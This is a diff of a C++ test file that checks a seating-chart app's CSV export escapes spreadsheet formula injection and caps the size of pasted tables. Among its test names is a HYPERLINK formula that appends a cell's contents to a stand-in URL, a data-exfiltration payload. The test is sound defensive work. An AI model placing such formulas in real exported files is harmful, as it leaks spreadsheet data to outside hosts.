@@ -63,27 +63,38 @@ private slots:
     void csvAndClipboardGiveNamesBack();
     void pasted_data();
     void pasted();
+    void pastedLimits_data();
+    void pastedLimits();
 };
 
 void TestTables::csvBytes()
 {
+    // A spreadsheet would evaluate a name starting with = + - @ TAB or CR.
     const QStringList seats = seatsWith({{1, QStringLiteral("山田 太郎")},
                                          {2, QStringLiteral(" ")}, // an empty seat
+                                         {3, QStringLiteral("=HYPERLINK(\"http://x/?\"&D7)")},
+                                         {4, QStringLiteral("+1")},
                                          {5, QStringLiteral("佐藤,花子")},
                                          {6, QStringLiteral("\"ｱｲ\"")},
+                                         {9, QStringLiteral("-山田")},
+                                         {10, QStringLiteral("@A1")},
+                                         {11, QStringLiteral("\t山田")},
+                                         {12, QStringLiteral("\r山田")},
+                                         {13, QStringLiteral("山田=1")},
                                          {27, QStringLiteral("一\r\n二")},
                                          {28, QStringLiteral(" 前後 ")}});
     const QByteArray expected =
         QByteArray("\xEF\xBB\xBF") + QStringLiteral("座席番号,列,列内の位置,氏名\r\n"
                                                     "1,1,1,山田 太郎\r\n"
                                                     "2,1,2,\r\n"
-                                                    "3,1,3,\r\n"
-                                                    "4,1,4,\r\n"
+                                                    "3,1,3,\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\r\n"
+                                                    "4,1,4,'+1\r\n"
                                                     "5,2,1,\"佐藤,花子\"\r\n"
                                                     "6,2,2,\"\"\"ｱｲ\"\"\"\r\n"
                                                     "7,2,3,\r\n8,2,4,\r\n"
-                                                    "9,3,1,\r\n10,3,2,\r\n11,3,3,\r\n12,3,4,\r\n"
-                                                    "13,4,1,\r\n14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
+                                                    "9,3,1,'-山田\r\n10,3,2,'@A1\r\n11,3,3,'\t山田\r\n"
+                                                    "12,3,4,\"'\r山田\"\r\n13,4,1,山田=1\r\n"
+                                                    "14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
                                                     "17,5,1,\r\n18,5,2,\r\n19,5,3,\r\n20,5,4,\r\n"
                                                     "21,6,1,\r\n22,6,2,\r\n23,6,3,\r\n24,6,4,\r\n"
                                                     "25,7,1,\r\n26,7,2,\r\n"
@@ -97,7 +108,7 @@ void TestTables::csvBytes()
 // with a strict reader, the clipboard rows with the reader the roster editor pastes with.
 void TestTables::csvAndClipboardGiveNamesBack()
 {
-    const QStringList pieces{"山", "田", "ｱ", "か", " ", "　", ",", "\"", "\t", "\r\n", "\n", "a", "髙"};
+    const QStringList pieces{"山", "田", "ｱ", "か", " ", "　", ",", "\"", "\t", "\r\n", "\n", "a", "髙", "=", "-"};
     QRandomGenerator random(20261206);
     for (int round = 0; round < 200; ++round) {
         QStringList seats;
@@ -108,8 +119,10 @@ void TestTables::csvAndClipboardGiveNamesBack()
             seats.append(name);
         }
         QStringList shown;
-        for (const QString &name : seats)
-            shown.append(name.trimmed().isEmpty() ? QString() : name);
+        for (const QString &name : seats) {
+            const bool formula = QStringLiteral("=-\t\r").contains(name.left(1));
+            shown.append(name.trimmed().isEmpty() ? QString() : formula ? u'\'' + name : name);
+        }
 
         const QByteArray bytes = chartCsv(seats);
         QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
@@ -166,9 +179,9 @@ void TestTables::pasted_data()
     QTest::newRow("blank rows and blanks around names")
         << "\r\n  山田 \r\n\r\n\t\r\n　鈴木　\n佐藤\r伊藤" << QStringList{"1列目：山田"} << 0
         << QStringList{"山田", "鈴木", "佐藤", "伊藤"} << QStringList();
-    QTest::newRow("short rows are padded") << "山田,やまだ,男\r\n佐藤\r\n"
-                                           << QStringList{"1列目：山田", "2列目：やまだ", "3列目：男"} << 0
-                                           << QStringList{"山田", "佐藤"} << QStringList{"やまだ"};
+    QTest::newRow("short rows") << "山田,やまだ,男\r\n佐藤\r\n"
+                                << QStringList{"1列目：山田", "2列目：やまだ", "3列目：男"} << 0
+                                << QStringList{"山田", "佐藤"} << QStringList{"やまだ"};
     QTest::newRow("an unclosed quote is a character")
         << "\"山田\r\n佐藤" << QStringList{"1列目：\"山田"} << 0 << QStringList{"\"山田", "佐藤"} << QStringList();
     QTest::newRow("empty column shown as such")
@@ -190,6 +203,35 @@ void TestTables::pasted()
     QCOMPARE(table.nameColumn, proposed);
     QCOMPARE(table.names(proposed), names);
     QCOMPARE(table.names(proposed + 1), another);
+}
+
+void TestTables::pastedLimits_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<bool>("tooLarge");
+    QTest::addColumn<int>("cells"); // held in all: a short row is not widened
+    const QString wide = QStringLiteral("氏名") + QString(MaxPastedColumns - 1, u'\t') + QStringLiteral("\r\n");
+    QString rows;
+    for (int n = 1; n < MaxPastedRows; ++n)
+        rows += QStringLiteral("生徒%1\r\n").arg(n);
+    const int cells = MaxPastedColumns + MaxPastedRows - 1;
+    QTest::newRow("at the limits") << wide + rows << false << cells;
+    QTest::newRow("blank rows do not count") << wide + rows + QStringLiteral(" \r\n\t\r\n") << false << cells;
+    QTest::newRow("a column more") << u'\t' + wide + rows << true << 0;
+    QTest::newRow("a row more") << wide + rows + QStringLiteral("生徒") << true << 0;
+}
+
+void TestTables::pastedLimits()
+{
+    QFETCH(QString, text);
+    QFETCH(bool, tooLarge);
+    QFETCH(int, cells);
+    const PastedTable table = readPastedTable(text);
+    QCOMPARE(table.tooLarge, tooLarge);
+    int held = 0;
+    for (const QStringList &row : table.rows)
+        held += int(row.size());
+    QCOMPARE(held, cells);
 }
 
 QTEST_MAIN(TestTables)
